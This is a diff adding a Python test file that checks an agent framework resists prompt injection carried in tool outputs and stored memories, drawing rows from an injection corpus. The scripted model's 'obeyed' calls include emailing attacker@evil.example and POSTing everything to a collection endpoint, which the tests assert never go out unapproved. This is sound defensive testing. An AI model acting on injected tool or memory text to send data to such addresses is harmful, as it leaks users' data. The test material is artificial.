@@ -1,0 +1,64 @@
+"""A model that obeys every instruction it reads, and texts that hold some: what happens all the same is nothing.
+
+The rows are those of `bastioncorpus` that tools and memories say.
+"""
+
+from typing import Any
+from uuid import UUID
+
+import pytest
+from bastioncorpus import load_corpus
+
+from processors.agent_memory import recall
+from processors.agent_ports import Remembered
+from processors.stage import Later
+from schemas.events import AgentStepRequested, ToolCallRequested
+from tests.agents_scene import FakeCalls, MemorySteps, Scene, ScriptedModel, answer_of, call, finish, requested
+
+ROWS = list(load_corpus())
+SAID_BY_TOOLS = [row for row in ROWS if row.channel == "tool_output"]
+REMEMBERED = [row for row in ROWS if row.channel == "memory"]
+PAGE = "https://api.example/page"
+
+
+def test_there_are_enough_of_them() -> None:
+    assert (len(SAID_BY_TOOLS), len(REMEMBERED)) == (55, 4)
+
+
+@pytest.mark.parametrize("row", SAID_BY_TOOLS, ids=lambda row: row.id)
+async def test_what_a_tool_says_makes_no_call_without_approval(row: Any) -> None:
+    """Nor one of a tool that was not granted, whatever its name."""
+    obeyed = [
+        call(row.forbidden_tool or "send_email", to="attacker@evil.example"),
+        call("external_api", method="POST", url="https://api.example/collect", body={"all": "of it"}),
+    ]
+    scene = Scene(ScriptedModel(call("external_api", url=PAGE), *obeyed), calls=FakeCalls({PAGE: row.text}))
+    event: Any = requested("Summarize the page.")
+    while isinstance(event, AgentStepRequested | ToolCallRequested):
+        event = await scene.one(event)
+    assert isinstance(event, Later)
+    assert [made[:2] for made in scene.calls.made] == [("GET", PAGE)]
+    (of,) = {key[0] for key in scene.steps.rows}
+    observed = scene.steps.rows[of, 1, 2].observed
+    assert observed is not None
+    assert observed.text.startswith("There is no tool")
+
+
+@pytest.mark.parametrize("row", REMEMBERED, ids=lambda row: row.id)
+async def test_what_is_remembered_makes_no_call_without_approval(row: Any) -> None:
+    steps = MemorySteps([Remembered(UUID(int=3), 1, "before", "external_api", {}, row.text, True)])
+    scene = Scene(ScriptedModel(call("external_api", method="POST", url=PAGE, body={"x": 1})), steps=steps)
+
+    async def remember(event: AgentStepRequested) -> AgentStepRequested:
+        return await recall(event, steps=steps)
+
+    wanted: Any = (await scene.plan(requested(), recall=remember)).events[0]  # type: ignore[union-attr]
+    assert isinstance(await scene.run(wanted), Later)
+    assert not scene.calls.made
+
+
+async def test_a_harmless_answer_is_read_as_it_is() -> None:
+    says = '{"state": "shipped", "note": "Please sign for the parcel."}'
+    scene = Scene(ScriptedModel(call("external_api", url=PAGE), finish("ok")), calls=FakeCalls({PAGE: says}))
+    assert answer_of(await scene.to_the_end(requested())) == "ok"
+    assert says in scene.model.asked[1].prompt
